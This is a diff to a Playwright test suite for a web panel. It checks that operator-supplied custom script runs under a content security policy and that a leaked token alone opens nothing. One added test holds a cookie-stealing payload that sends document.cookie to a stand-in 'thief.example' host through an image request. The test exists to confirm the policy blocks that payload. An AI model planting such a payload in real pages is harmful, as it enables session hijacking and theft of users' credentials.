@@ -1,18 +1,28 @@
 import { createHmac } from 'node:crypto';
-import { expect, type Page, test } from '@playwright/test';
+import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
 import { hydrated } from './hydrated.ts';
 import { changeSettings } from './panel-settings.ts';
-import { mintSession, signIn } from './sign-in.ts';
+import { mintCode, mintSession, setPanelCode, signIn } from './sign-in.ts';
 
 const nothing = {
   intercomAppId: null,
   jivoAppId: null,
   googleAnalytics4Id: null,
   tagManagerId: null,
-  customCode: null,
 };
 
+/** Sets the panel's own script and waits until pages have it. */
+async function useCode(request: APIRequestContext, customCode: string | null, imageHosts: string[] = []) {
+  await setPanelCode({ customCode, imageHosts });
+  const told = async () => {
+    const settings = (await (await request.get('/settings', { headers: { accept: 'application/json' } })).json()).data;
+    return settings.customCode;
+  };
+  await expect.poll(told).toBe(customCode);
+}
+
 test.afterEach(async ({ request }) => {
+  await useCode(request, null);
   await changeSettings(request, nothing);
 });
 
@@ -239,8 +249,7 @@ test('custom code runs as a script file of the panel, without eval (SECU-003, IN
   const customCode = `
     window.where = document.currentScript.src;
     try { eval('window.evaluated = true'); } catch (error) { window.refused = error.name; }`;
-  expect(await changeSettings(request, { customCode: 'if (' })).toBe(422);
-  expect(await changeSettings(request, { customCode })).toBe(200);
+  await useCode(request, customCode);
   await page.goto('/');
   const seen = () =>
     page.evaluate(() => {
@@ -254,12 +263,49 @@ test('custom code runs as a script file of the panel, without eval (SECU-003, IN
 });
 
 test('custom code that fails costs only itself (SECU-003)', async ({ page, request }) => {
-  await changeSettings(request, { customCode: 'throw new Error("of the operator")', intercomAppId: 'abc123' });
+  await useCode(request, 'throw new Error("of the operator")');
+  await changeSettings(request, { intercomAppId: 'abc123' });
   await outside(page);
   await page.goto('/');
   await use(page);
   await expect.poll(async () => (await told(page)).length).toBeGreaterThan(0);
   await expect(page.getByRole('heading', { level: 1, name: 'Services' })).toBeVisible();
+});
+
+test('custom code cannot send the token away as a picture, and the token alone opens nothing (SECU-020, SECU-024)', async ({
+  browser,
+  request,
+  baseURL,
+}) => {
+  await useCode(
+    request,
+    `addEventListener('securitypolicyviolation', ({ blockedURI }) => { window.refused = blockedURI; });
+    window.read = document.cookie;
+    for (const host of ['thief.example', 'pictures.example']) {
+      new Image().src = 'https://' + host + '/?' + encodeURIComponent(document.cookie);
+    }`,
+    ['pictures.example'],
+  );
+  const context = await browser.newContext({ baseURL: baseURL as string });
+  const page = await context.newPage();
+  const asked = await outside(page);
+  await page.goto(`/impersonate?token=${await mintCode()}`);
+  await use(page);
+  const seen = () =>
+    page.evaluate(() => Object.fromEntries(Object.entries(window).filter(([name]) => name === 'refused')));
+  await expect.poll(seen).toEqual({ refused: expect.stringContaining('https://thief.example') });
+  await expect.poll(() => asked.map((url) => new URL(url).hostname)).toEqual(['pictures.example']);
+  const read = await page.evaluate(() => (window as unknown as { read: string }).read);
+  const token = /authToken=([\w-]{43})/.exec(read)?.[1];
+  expect(token).toBeDefined();
+  expect(read).not.toContain('shop-key');
+  const stolen = await request.get('/api/v1/profile', { headers: { authorization: `Bearer ${token}` } });
+  expect(stolen.status()).toBe(401);
+  // The page itself goes on: its calls bring the cookie along.
+  const own = page.waitForResponse((response) => response.url().includes('/refresh'));
+  await page.reload();
+  expect((await own).status()).toBe(200);
+  await context.close();
 });
 
 test('the policy opens the hosts of configured providers, and nothing when none is (SECU-003)', async ({ request }) => {
